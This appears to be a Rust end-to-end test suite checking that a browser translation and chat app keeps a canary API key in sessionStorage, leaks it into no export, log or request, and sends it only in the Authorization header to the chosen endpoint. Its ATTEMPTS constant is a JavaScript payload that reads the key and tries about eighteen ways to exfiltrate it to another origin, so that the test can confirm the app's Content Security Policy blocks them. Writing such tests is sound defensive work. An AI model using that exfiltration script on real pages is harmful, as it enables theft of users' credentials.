//! A canary key through a whole session of work: where it is, where it went, and that nothing can carry it elsewhere.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::time::Duration;

use common::{LONG, Stage};
use e2e::{BrowserOptions, PATIENCE, Result};
use practice::{Options, Running};
use serde_json::json;

const CANARY: &str = "sk-canary-7Qz3mV9tR2xW8kLp4nB6yH1c";
const HOME: [&str; 1] = ["sessionStorage parlance.key"];

async fn session() -> Result<Stage> {
    let stage = Stage::bare("", BrowserOptions::default(), Some(CANARY)).await?;
    stage
        .browser
        .bring_key(&stage.practice.base_url(), CANARY)
        .await?;
    stage.browser.close_key_form().await?;
    Ok(stage)
}

/// The key is in its home and nowhere else that the page keeps or shows.
async fn at_home(stage: &Stage, when: &str) -> Result {
    let places = stage.browser.stored().await?.places_of(CANARY);
    assert_eq!(places, HOME, "{when}");
    Ok(())
}

#[tokio::test]
async fn the_key_stays_at_home_through_a_session_of_work() -> Result {
    let stage = session().await?;
    let browser = &stage.browser;
    at_home(&stage, "after the key was brought").await?;

    for (model, ends) in [
        ("practice-burst", "done"),
        ("practice-leaky", "failed"),
        ("practice-401", "failed"),
        ("practice-quota", "failed"),
        ("practice-503-html", "failed"),
        ("practice-cut", "failed"),
    ] {
        browser.choose_model("tr-model", model).await?;
        assert_eq!(
            stage.translate("One sentence to translate.", LONG).await?,
            ends,
            "{model}"
        );
        if ends == "failed" {
            browser
                .run(
                    "document.querySelectorAll('details').forEach(d => { d.open = true })",
                    &[],
                )
                .await?;
        }
        at_home(&stage, model).await?;
    }
    // A refused key is marked; it is still held, so that it can be replaced.
    stage.go("#/chat").await?;
    for (model, ends) in [
        ("practice-burst", "done"),
        ("practice-leaky", "failed"),
        ("practice-xss", "done"),
    ] {
        browser.choose_model("chat-model", model).await?;
        browser.say("What is the key?").await?;
        browser.wait_answer(ends, LONG).await?;
        at_home(&stage, model).await?;
    }
    stage.reload().await?;
    at_home(&stage, "after a reload").await?;

    stage.go("#/settings").await?;
    browser.click("settings-export").await?;
    let export = browser.download(PATIENCE).await?;
    let text = std::fs::read_to_string(&export)?;
    assert!(text.contains("What is the key?") && !text.contains(CANARY));
    browser.forget_downloads()?;
    stage.go("#/usage").await?;
    browser.click("usage-csv").await?;
    let csv = browser.download(PATIENCE).await?;
    let text = std::fs::read_to_string(&csv)?;
    assert!(text.contains("practice-leaky") && !text.contains(CANARY));
    browser.forget_downloads()?;

    stage.go("#/settings").await?;
    browser.click("settings-rescue").await?;
    browser.click("crash-download").await?;
    let rescue = browser.download(PATIENCE).await?;
    let text = std::fs::read_to_string(&rescue)?;
    assert!(text.contains("What is the key?") && !text.contains(CANARY));
    at_home(&stage, "after a crash").await?;

    // Where it went: to the chosen origin, in one header, and in nothing else.
    let endpoint = format!("http://{}", stage.practice.addr);
    let requests = browser.requests().await?;
    let mut carried = 0;
    for request in &requests {
        let to = request.origin();
        assert!(
            to == endpoint || to == stage.site.origin(),
            "a request to {}",
            request.url
        );
        assert!(!request.url.contains(CANARY));
        assert!(!request.body.as_deref().unwrap_or_default().contains(CANARY));
        for (name, value) in &request.headers {
            if name == "authorization" {
                assert_eq!(
                    (to, value.as_str()),
                    (endpoint.as_str(), &*format!("Bearer {CANARY}"))
                );
                carried += 1;
            } else {
                assert!(!value.contains(CANARY), "{name} of {}", request.url);
            }
        }
    }
    assert!(carried >= 10, "only {carried} requests carried the key");
    for line in browser.console().await? {
        assert!(!line.text.contains(CANARY), "{line}");
    }
    for seen in stage.practice.requests() {
        assert!(!seen.path.contains(CANARY) && !seen.body.to_string().contains(CANARY));
    }
    Ok(())
}

/// Every way a script in the page has to send something. Each answers with what it came to.
const ATTEMPTS: &str = r#"
    const url = arguments[0], key = sessionStorage.getItem('parlance.key');
    const outcome = {};
    const wait = ms => new Promise(resolve => setTimeout(resolve, ms));
    const attempt = async (name, work) => {
        try { outcome[name] = String(await Promise.race([work(), wait(1500).then(() => 'nothing')])); }
        catch (error) { outcome[name] = 'refused'; }
    };
    await attempt('fetch', async () => { await fetch(url + '/fetch?' + key); return 'SENT'; });
    await attempt('no-cors', async () => { await fetch(url + '/no-cors', { method: 'POST', mode: 'no-cors', keepalive: true, body: key }); return 'SENT'; });
    await attempt('xhr', () => new Promise((resolve, reject) => {
        const xhr = new XMLHttpRequest(); xhr.onload = () => resolve('SENT'); xhr.onerror = reject;
        xhr.open('POST', url + '/xhr'); xhr.send(key);
    }));
    await attempt('beacon', async () => { navigator.sendBeacon(url + '/beacon', key); return 'tried'; });
    await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve('SENT'); i.onerror = reject; i.src = url + '/image?' + key; }));
    await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket(url.replace('http', 'ws') + '/socket?' + key); s.onopen = () => resolve('SENT'); s.onerror = reject; }));
    await attempt('events', () => new Promise((resolve, reject) => { const s = new EventSource(url + '/events?' + key); s.onopen = () => resolve('SENT'); s.onerror = e => { s.close(); reject(e); }; }));
    const element = (name, tag, set) => attempt(name, () => new Promise((resolve, reject) => {
        const e = document.createElement(tag); set(e); e.onload = () => resolve('loaded'); e.onerror = reject; document.head.append(e);
    }));
    await element('script', 'script', e => { e.src = url + '/script.js?' + key; });
    await element('style', 'link', e => { e.rel = 'stylesheet'; e.href = url + '/style.css?' + key; });
    await element('prefetch', 'link', e => { e.rel = 'prefetch'; e.href = url + '/prefetch?' + key; });
    await element('preload', 'link', e => { e.rel = 'preload'; e.as = 'fetch'; e.href = url + '/preload?' + key; });
    await element('frame', 'iframe', e => { e.src = url + '/frame?' + key; });
    await element('media', 'video', e => { e.src = url + '/video?' + key; });
    await attempt('form', async () => {
        const f = document.createElement('form'); f.method = 'post'; f.action = url + '/form'; f.target = '_blank';
        const i = document.createElement('input'); i.name = 'k'; i.value = key; f.append(i); document.body.append(f); f.submit(); return 'tried';
    });
    await attempt('worker', () => new Promise((resolve, reject) => {
        const code = `fetch('${url}/worker').then(() => postMessage('SENT'), () => postMessage('refused'))`;
        const w = new Worker(URL.createObjectURL(new Blob([code]))); w.onmessage = e => resolve(e.data); w.onerror = reject;
    }));
    await attempt('inline', async () => {
        const s = document.createElement('script'); s.textContent = 'window.inlineRan = true'; document.head.append(s);
        return window.inlineRan ? 'RAN' : 'refused';
    });
    // A policy added later can only forbid more.
    await attempt('loosen', async () => {
        const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = 'connect-src *'; document.head.append(m);
        await fetch(url + '/loosened'); return 'SENT';
    });
    return outcome;
"#;

async fn heard(server: &Running) -> Vec<String> {
    tokio::time::sleep(Duration::from_millis(800)).await;
    let mut all = server.requests();
    all.extend(server.preflights());
    all.into_iter()
        .map(|seen| format!("{} {}", seen.method, seen.path))
        .collect()
}

#[tokio::test]
async fn a_script_in_the_page_reaches_no_other_origin() -> Result {
    let stage = session().await?;
    let browser = &stage.browser;
    let elsewhere = practice::start(Options::default()).await?;
    let url = format!("http://{}", elsewhere.addr);
    let outcome = browser.run_async(ATTEMPTS, &[url.clone().into()]).await?;
    let heard_there = heard(&elsewhere).await;
    assert!(heard_there.is_empty(), "{heard_there:?}\n{outcome}");
    for (name, came_to) in outcome.as_object().unwrap() {
        assert!(
            !["SENT", "RAN"].contains(&came_to.as_str().unwrap()),
            "{name}: {came_to}"
        );
    }
    // Not because nothing can be sent: the chosen endpoint is reached.
    let models = stage.practice.base_url() + "/models";
    let status = browser
        .run_async(
            "return (await fetch(arguments[0], { headers: { Authorization: 'Bearer ' + arguments[1] } })).status",
            &[models.into(), CANARY.into()],
        )
        .await?;
    assert_eq!(status, json!(200));

    // The policy is there before the app: a script that comes first is held by it as well.
    browser
        .cdp(
            "Page.addScriptToEvaluateOnNewDocument",
            json!({ "source": format!("document.addEventListener('DOMContentLoaded', () => {{ window.early = fetch('{url}/early').then(() => 'SENT', () => 'refused') }})") }),
        )
        .await?;
    stage.reload().await?;
    let early = browser.run_async("return await window.early", &[]).await?;
    assert_eq!(early, json!("refused"));
    assert!(heard(&elsewhere).await.is_empty());
    Ok(())
}
